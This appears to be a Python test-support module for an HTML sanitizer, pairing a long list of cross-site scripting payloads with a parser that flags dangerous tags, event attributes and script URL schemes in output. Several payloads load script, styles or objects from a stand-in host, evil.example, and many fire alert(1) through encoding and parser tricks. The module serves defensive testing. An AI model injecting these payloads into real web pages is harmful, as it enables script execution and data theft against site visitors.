"""Hostile inputs of our own making, and how to tell that one got through: by parsing what came out."""

from html.parser import HTMLParser

ATTRIBUTES = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerdown"]
HOSTS = ["img src=x", "svg", "body", "input autofocus", "details open", "video", "a href=#", "iframe", "p", "math"]
SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    " javascript:alert(1)",
]
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><input name=a><button>x</button></form>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<img src=x:x onerror=alert(1)//",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ constructor.constructor('alert(1)')() }}",
    "{% load static %}{% csrf_token %}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202egnirts\u202c<script>alert(1)</script>",
    "« <img src=x onerror=alert(1)> » : ! ? ;",
    "[x](javascript:alert(1))",
    "[x]( javascript:alert(1) 'title')",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    'https://example.org/"onmouseover=alert(1)//',
    "http://example.org/<script>alert(1)</script>",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "<a href='https://example.org' target=_blank onclick=alert(1)>x</a>",
    *(f"<{host} {attribute}=alert(1)>x" for host in HOSTS for attribute in ATTRIBUTES),
    *(f'<a href="{scheme}">x</a>' for scheme in SCHEMES),
    *(f'<img src="{scheme}">' for scheme in SCHEMES),
    *(f'<blockquote cite="{scheme}">x</blockquote>' for scheme in SCHEMES),
]
BAD_TAGS = {"script", "style", "iframe", "object", "embed", "form", "base", "meta", "link", "svg", "math", "template"}
ADDRESSES = {"href", "src", "cite", "action", "formaction", "srcset", "data"}
SAFE = ("http://", "https://", "mailto:", "/", "#", "?")


class Finder(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.bad = []

    def handle_starttag(self, tag, attrs):
        if tag in BAD_TAGS:
            self.bad.append(tag)
        for name, value in attrs:
            value = (value or "").strip()
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.bad.append(name)
            if name in ADDRESSES and ":" in value.split("/")[0] and not value.lower().startswith(SAFE):
                self.bad.append(f"{name}={value}")

    handle_startendtag = handle_starttag


def holds_script(html: str) -> list[str]:
    """What in some HTML could run or lead astray; empty where nothing does."""
    finder = Finder()
    finder.feed(html)
    finder.close()
    return finder.bad
